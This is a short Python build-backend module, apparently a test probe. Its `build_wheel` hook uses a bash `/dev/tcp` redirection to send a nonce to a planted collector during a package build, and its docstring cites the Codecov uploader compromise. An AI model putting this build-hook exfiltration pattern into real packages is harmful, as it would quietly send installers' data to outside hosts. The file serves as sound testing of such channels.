"""Starts a shell and lets its built-in redirection to /dev/tcp do the sending.

Living off the land: the backend itself opens no socket, imports nothing remarkable and
brings no program along. One such line in Codecov's uploader was enough for two months.
"""

import subprocess

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("shell"):
        collector = kit.plant("collector")
        command = ["bash", "-c", 'printf "%s\\n" "$2" > "/dev/tcp/$0/$1"']
        command += [collector.address, str(collector.port), kit.nonce]
        subprocess.run(command, check=True, timeout=kit.seconds(5))
    return kit.wheel(wheel_directory)
